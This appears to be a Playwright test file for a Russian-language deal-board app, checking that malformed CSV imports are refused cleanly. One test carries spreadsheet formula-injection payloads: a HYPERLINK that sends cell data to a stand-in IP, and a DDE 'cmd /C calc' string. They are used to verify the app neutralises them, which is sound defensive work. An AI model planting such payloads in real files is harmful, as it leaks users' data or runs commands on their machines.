// What bad input gets: a sentence that says what is wrong and where; nothing changed, the page alive, the console clean.
import type { Page } from "@playwright/test";
import {
  board,
  choose,
  column,
  downloaded,
  drop,
  firstPage,
  loadButton,
  openExample,
  opened,
  ready,
  copy,
  total,
} from "./support/app";
import { put, rows } from "./support/database";
import { csv } from "./support/papers";
import { expect, test } from "./support/test";

const line = (at: number) => `N${at},Клиент ${at},Engaging,100\n`;
const header = "opportunity_id,account,deal_stage,close_value\n";
const lines = Array.from({ length: 50 }, (_, at) => line(at));
// «Клиент» in windows-1251.
const another = Buffer.concat([
  Buffer.from("M1,"),
  Buffer.from([0xca, 0xeb, 0xe8, 0xe5, 0xed, 0xf2]),
  Buffer.from(",Engaging,100\n"),
]);

const files: { name: string; text: string | Buffer; says: string }[] = [
  {
    name: "картинка.csv",
    text: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 1, 2, 3, 0, 255, 254, 0, 7]),
    says: "Это не таблица: в файле двоичные данные",
  },
  {
    name: "книга.csv",
    text: Buffer.concat([Buffer.from("PK\u0003\u0004"), Buffer.alloc(500, 7)]),
    says: "Это не книга Excel, или она повреждена",
  },
  {
    name: "страница.csv",
    text: "<html><body><table><tr><td>1</td></tr></table></body></html>",
    says: "Это страница HTML",
  },
  { name: "счёт.csv", text: "%PDF-1.7\n1 0 obj\n", says: "Это PDF" },
  { name: "пусто.csv", text: "", says: "Файл пуст" },
  { name: "пробелы.csv", text: "\n\n \n", says: "Файл пуст" },
  { name: "столбец.csv", text: "Клиент\nАльфа\nБета\n", says: "В файле один столбец" },
  {
    name: "широкая.csv",
    text: `${",".repeat(999_999)}\n1,2\n`,
    says: "Строка 1: столбцов 1 000 000, а читаем до 1 000",
  },
  {
    name: "кавычка.csv",
    text: `${header}${lines.slice(0, 20).join("")}N20,"Клиент,Engaging,100\n${lines.slice(21).join("")}`,
    says: "Строка 22: кавычка открыта и не закрыта",
  },
  {
    name: "склеено.csv",
    text: Buffer.concat([Buffer.from(header + lines.join("")), another]),
    says: "Строка 52: с неё другая кодировка",
  },
];

/** The page answers a person at once: the theme changes and comes back. */
async function alive(page: Page): Promise<void> {
  const theme = page.getByRole("button", { name: "Светлая или тёмная тема" });
  await theme.click();
  await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
  await theme.click();
  await expect(page.locator("html")).toHaveAttribute("data-theme", "light");
}

/** The dialog that says why a file was not loaded; closing it leaves everything as it was. */
async function refused(page: Page, name: string, says: string): Promise<void> {
  const dialog = page.getByRole("dialog", { name: "Файл не загружен, ничего не изменилось" });
  await expect(dialog.getByRole("alert")).toContainText(name, { timeout: 30_000 });
  await expect(dialog.getByRole("alert")).toContainText(says);
  await dialog.getByRole("button", { name: "Закрыть", exact: true }).click();
  await expect(dialog).toBeHidden();
  await expect(firstPage(page)).toBeVisible();
}

test("a file that is no table says what is wrong and where, and changes nothing", async ({ page }) => {
  await page.goto("./");
  for (const { name, text, says } of files) {
    await test.step(name, async () => {
      await choose(page, { name, text });
      await refused(page, name, says);
      await alive(page);
    });
  }
  await page.reload();
  await opened(page);
  await expect(firstPage(page)).toBeVisible();
  expect(await rows(page)).toEqual([]);
});

for (const [megabytes, says] of [
  [100, "В файле один столбец"],
  [250, "Файл занимает 250 МБ, а за раз читаем до 210 МБ"],
] as const) {
  test(`a file of ${megabytes} MB that is no table freezes nothing`, async ({ page }) => {
    await page.goto("./");
    await ready(page);
    const dataTransfer = await page.evaluateHandle((megabytes) => {
      const megabyte = new Uint8Array(1_000_000).fill(97);
      const transfer = new DataTransfer();
      transfer.items.add(new File(Array<Uint8Array>(megabytes).fill(megabyte), "огромная.csv"));
      return transfer;
    }, megabytes);
    // The longest time for which the page did not answer.
    const silence = await page.evaluateHandle(() => {
      const kept = { longest: 0, last: performance.now() };
      const tick = () => {
        const now = performance.now();
        kept.longest = Math.max(kept.longest, now - kept.last);
        kept.last = now;
        setTimeout(tick);
      };
      tick();
      return kept;
    });
    await page.dispatchEvent("body", "drop", { dataTransfer });
    await refused(page, "огромная.csv", says);
    expect(await silence.evaluate(({ longest }) => longest)).toBeLessThan(3_000);
    await alive(page);
  });
}

test("over a board a bad file leaves the board as it is", async ({ page }) => {
  await page.goto("./");
  await openExample(page);
  const before = await total(page, "deals-4r.terms").innerText();
  await drop(page, { name: "пусто.csv", text: "" });
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByRole("alert")).toContainText("Файл пуст");
  await page.keyboard.press("Escape");
  await expect(dialog).toBeHidden();
  await expect(total(page, "deals-4r.terms")).toHaveText(before);
});

test("formulas are text on the screen and harmless in a file", async ({ page }) => {
  const formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"нажмите")';
  const titles = ["opportunity_id", "title", "account", "deal_stage", "close_value"];
  const deals = [
    ["F1", formula, "@SUM(1+9)*cmd|' /C calc'!A0", "Engaging", "100"],
    ["F2", formula, "+7 495 000", "Engaging", "сто"],
  ];
  await page.goto("./");
  await drop(page, { name: "формулы.csv", text: csv([titles, ...deals]) });
  const download = page.waitForEvent("download");
  await page.getByRole("dialog").getByRole("button", { name: "Скачать эти строки" }).click();
  const [, row] = (await downloaded(await download)).split("\r\n");
  expect(row).toContain(`"'=HYPERLINK(`);
  await loadButton(page).click();
  const first = board(page).getByRole("article", { name: /^@SUM/ });
  await expect(first).toContainText(formula);
  await expect(first.getByRole("link", { name: /HYPERLINK/ })).toHaveCount(0);
  const [deal] = (await copy(page)).filter(({ kind }) => kind === "deal");
  expect(deal?.v.title).toBe(formula);
});

test("damaged records are set aside and listed, the rest opens", async ({ page }) => {
  await page.goto("./");
  await openExample(page);
  const deals = (await rows(page)).filter(({ kind, v }) => kind === "deal" && v.stage === "deals-4r.terms");
  const [first, second] = deals;
  const whole = deals.length;
  await put(page, [
    { ...first, t: undefined },
    { ...second, v: { ...second!.v, title: { no: "text" } } },
  ]);
  await page.reload();
  await expect(board(page)).toBeVisible();
  await expect(total(page, "deals-4r.terms")).toHaveText(String(whole - 2));
  await expect(column(page, "deals-4r.new").getByRole("article").first()).toBeVisible();
  const banner = page.getByRole("status").filter({ hasText: "2 записи не прочитаны и отложены" });
  await expect(banner).toContainText("Остальное открыто");

  await banner.getByRole("link", { name: "Показать" }).click();
  const list = page.getByRole("main");
  await expect(list).toContainText(first!.id);
  await expect(list).toContainText(second!.id);
  const download = page.waitForEvent("download");
  await list
    .locator("section", { hasText: "Отложенные записи" })
    .getByRole("button", { name: "Скачать копию" })
    .click();
  const aside = await downloaded(await download);
  expect(aside).toContain(first!.id);
  expect(aside).toContain(second!.id);

  // The next start finds them aside as well, and the workspace as it was.
  await page.reload();
  await expect(list).toContainText(first!.id);
  await expect(list).toContainText(second!.id);
  // A copy has what the disk has: also the row that is whole and says nothing that a deal can be.
  const kept = (await copy(page)).filter(({ kind, v }) => kind === "deal" && v.stage === "deals-4r.terms");
  expect(kept.map(({ id }) => id).sort()).toEqual(deals.map(({ id }) => id).filter((id) => id !== first!.id).sort());
});
